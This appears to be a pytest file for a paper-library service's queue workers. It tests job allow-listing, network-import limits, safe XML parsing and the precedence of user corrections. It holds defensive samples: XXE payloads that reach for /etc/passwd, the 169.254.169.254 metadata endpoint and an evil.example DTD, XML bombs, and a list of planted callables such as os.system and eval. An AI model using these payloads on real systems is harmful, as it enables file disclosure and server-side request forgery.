"""W1 to W5: what workers run, what they may fetch, what they read, and whose word they never overwrite."""

from __future__ import annotations

import ast
from collections.abc import Iterator

import pytest
import redis
from rq.job import Job

from api.actions.correct_paper import correct_paper
from api.actions.desk import Desk
from api.actions.enrich_paper import finish_paper, take_paper
from api.actions.get_paper import get_paper
from api.actions.save_paper import SaveWish, save_paper
from api.domain.corrections import CorrectionWish
from api.domain.papers import Finding
from api.queue import QUEUE, SERIALIZER
from api.store import enrichment
from api.store.enrichment import Observation
from tests.conftest import ROOT
from tests.make import LAPTOP, make_id, make_library
from workers.known_job import ForeignJob, KnownJob
from workers.main import MAINTENANCE_SECONDS, MEMORY_BYTES, WORKER_SECONDS, make_worker
from workers.sources.base import Answer, BadAnswer, xml_root

# Whatever can open a connection outwards, and the one file that may.
NETWORK = {
    "httpx",
    "requests",
    "aiohttp",
    "urllib3",
    "pycurl",
    "ftplib",
    "telnetlib",
    "xmlrpc",
    "http.client",
    "urllib.request",
}
XML = {"xml.etree.ElementTree", "xml.dom", "xml.sax", "lxml", "xml.dom.minidom", "xml.etree"}
PLANTED = (
    "os.system",
    "os.getcwd",
    "builtins.eval",
    "subprocess.run",
    "workers.jobs.os",
    "workers.jobs",
    "",
    "api.cli.main",
)


async def test_w1_a_save_is_work_to_be_done_whatever_becomes_of_the_queue(desk: Desk) -> None:
    who = (await make_library(desk, "ada", {"laptop": LAPTOP}))["laptop"]
    saved = await save_paper(desk, who, SaveWish(id=make_id("e"), url="arXiv:1706.03762"))
    client = redis.Redis.from_url(desk.settings.redis_url)
    client.flushall()
    client.close()
    due = await desk.database.read(lambda tx: enrichment.due(tx, desk.now(), 10))
    assert due == [saved.paper.id]
    claims = [
        await desk.database.write(lambda tx: enrichment.claim(tx, saved.paper.id, desk.now(), 90_000)) for _ in range(2)
    ]
    assert [claim is not None for claim in claims] == [True, False], "one worker holds it, and its attempt is its fence"


@pytest.mark.parametrize("name", PLANTED)
def test_w2_a_job_of_another_name_does_not_run(redis_url: str, name: str) -> None:
    with redis.Redis.from_url(redis_url) as connection:
        planted = Job(id="planted", connection=connection, serializer=SERIALIZER)
        planted._func_name, planted._args, planted._kwargs = name, ["x"], {}
        found = KnownJob("planted", connection=connection, serializer=SERIALIZER)
        found.restore(planted.to_dict())
        with pytest.raises(ForeignJob):
            _ = found.func


def test_w2_a_worker_has_one_queue_and_an_end_to_its_silence_and_its_memory(redis_url: str) -> None:
    worker = make_worker(redis_url)
    assert [queue.name for queue in worker.queues] == [QUEUE]
    assert worker.serializer is SERIALIZER or worker.serializer.__name__ == "JSONSerializer"
    assert (WORKER_SECONDS, MAINTENANCE_SECONDS, MEMORY_BYTES) == (60, 30, 512 * 2**20)


def imports() -> Iterator[tuple[str, str]]:
    """Each file of ours with each module that it imports."""
    for part in ("api", "workers"):
        for path in ROOT.joinpath(part).rglob("*.py"):
            file = path.relative_to(ROOT).as_posix()
            for node in ast.walk(ast.parse(path.read_text("utf-8"))):
                if isinstance(node, ast.Import):
                    yield from ((file, alias.name) for alias in node.names)
                elif isinstance(node, ast.ImportFrom) and node.module:
                    yield file, node.module
                    yield from ((file, f"{node.module}.{alias.name}") for alias in node.names)


def test_w3_one_file_speaks_to_the_outside() -> None:
    found = list(imports())
    assert [(file, name) for file, name in found if name in NETWORK] == []
    speaking = {file for file, name in found if name.split(".")[0] == "httpcore"}
    assert speaking == {"workers/exchange.py", "workers/address_guard.py"}


def test_w4_no_xml_is_read_but_by_the_parser_that_refuses_entities() -> None:
    found = list(imports())
    assert {name for _, name in found if name in XML} == {"xml.etree.ElementTree"}, "the shapes of a tree alone"
    readers = {name for _, name in found if name.rsplit(".", 1)[-1] in ("XMLParser", "fromstring", "iterparse")}
    assert readers == {"defusedxml.ElementTree.XMLParser"}


BOMBS = [
    '<!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>',
    '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "http://169.254.169.254/">]><a>&b;</a>',
    '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><a/>',
    "<a>" * 100 + "</a>" * 100,
    "<a>" + "<b/>" * 200_001 + "</a>",
    "<a>",
    "",
    "\0",
    "<a>\0</a>",
    "<a b='1' b='2'/>",
]


@pytest.mark.parametrize("text", BOMBS, ids=range(len(BOMBS)))
def test_w4_xml_that_expands_leads_out_or_never_ends_is_a_bad_answer(text: str) -> None:
    with pytest.raises(BadAnswer):
        xml_root(Answer("arxiv", "https://example.org/", 200, "application/xml", text.encode(), "2026-11-18T00:00:00Z"))


async def test_w5_what_a_person_said_stands_whatever_sources_say_later_and_each_field_names_its_source(
    desk: Desk,
) -> None:
    """Orders of answers and corrections by the hundred are in tests/domain/test_derive_orders.py."""
    who = (await make_library(desk, "ada", {"laptop": LAPTOP}))["laptop"]
    paper_id = (await save_paper(desk, who, SaveWish(id=make_id("e"), url="arXiv:1706.03762"))).paper.id
    await correct_paper(desk, who, paper_id, CorrectionWish(title="Mine"))
    task = await take_paper(desk, paper_id)
    assert task is not None
    found = Finding("arxiv", title="Theirs", abstract="What they say.")
    await finish_paper(desk, task, [Observation("arxiv", "https://example.org/", desk.now(), 200, b"x", found)])
    known = await get_paper(desk, who.library_id, paper_id)
    assert (known.paper.title, known.paper.abstract) == ("Mine", "What they say.")
    assert (known.provenance["title"].source, known.provenance["abstract"].source) == ("user", "arxiv")
    assert known.provenance["abstract"].at
